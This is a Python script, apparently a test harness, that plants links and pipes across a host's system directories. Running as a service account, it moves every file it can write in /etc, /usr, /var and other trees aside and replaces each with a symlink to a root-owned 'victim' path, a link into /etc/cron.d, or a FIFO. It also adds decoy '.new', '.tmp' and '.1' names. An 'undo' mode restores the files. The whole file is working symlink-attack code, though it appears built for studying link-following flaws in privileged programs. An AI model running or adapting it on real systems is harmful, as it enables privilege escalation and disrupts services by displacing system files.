"""Runs inside a host, as a service's account: links in the place of everything it can move.

In each directory that the account can write, `plant.py beside` puts links beside everything, under
names that a program may take for a new version. The other kinds move everything aside as well and
put a link (`link`), a link that leads nowhere (`dangling`) or a pipe (`pipe`) in its place. It
prints what it did as JSON;
`plant.py undo`, as root, reads that and puts everything back.
"""

import contextlib
import json
import os
import shutil
import stat
import sys

TREES = ("/etc", "/opt", "/srv", "/usr", "/var/cache", "/var/lib", "/var/log", "/var/spool")
SECRET, SECRETS, NOWHERE = "/root/victim", "/root/victims", "/etc/cron.d/planted"
KEPT = ".kept-"
BESIDE = (".new", ".tmp", ".1")


def plant(kind: str, path: str, *, folder: bool) -> None:
    """Put one thing in a place that is free."""
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "dangling":
        os.symlink(NOWHERE, path)
    else:
        os.symlink(SECRETS if folder else SECRET, path)


def ours(folder: str, status: os.stat_result) -> bool:
    """Tell whether the account may move an entry of a directory that it can write."""
    place = os.stat(folder)
    sticky = place.st_mode & stat.S_ISVTX
    return not sticky or os.geteuid() in (place.st_uid, status.st_uid)


def everywhere(kind: str) -> list[tuple[str, bool]]:
    """Plant wherever it is possible; return each place, and whether something was moved away."""
    done: list[tuple[str, bool]] = []
    for tree in TREES:
        for folder, folders, files in os.walk(tree, topdown=False):
            if not os.access(folder, os.W_OK | os.X_OK):
                continue
            for name in folders + files:
                path = f"{folder}/{name}"
                with contextlib.suppress(OSError):
                    status = os.lstat(path)
                    if stat.S_ISSOCK(status.st_mode) or not ours(folder, status):
                        continue
                    if kind != "beside":
                        os.rename(path, f"{folder}/{KEPT}{name}")
                        done.append((path, True))
                        plant(kind, path, folder=stat.S_ISDIR(status.st_mode))
                    for ending in BESIDE:
                        if not os.path.lexists(path + ending) and name + ending not in files:
                            plant(kind, path + ending, folder=False)
                            done.append((path + ending, False))
    return done


def undo(done: list[tuple[str, bool]]) -> None:
    """Put back what was moved; what was made meanwhile in its place goes."""
    for path, moved in reversed(done):
        with contextlib.suppress(FileNotFoundError):
            status = os.lstat(path)
            if stat.S_ISLNK(status.st_mode) or stat.S_ISFIFO(status.st_mode):
                os.unlink(path)
            elif moved and os.path.lexists(kept(path)):
                shutil.rmtree(path) if stat.S_ISDIR(status.st_mode) else os.unlink(path)
        if moved and os.path.lexists(kept(path)):
            os.rename(kept(path), path)


def kept(path: str) -> str:
    """Return where the thing of this place was moved."""
    return f"{os.path.dirname(path)}/{KEPT}{os.path.basename(path)}"


if __name__ == "__main__":
    if sys.argv[1] == "undo":
        undo(json.load(sys.stdin))
    else:
        json.dump(everywhere(sys.argv[1]), sys.stdout)
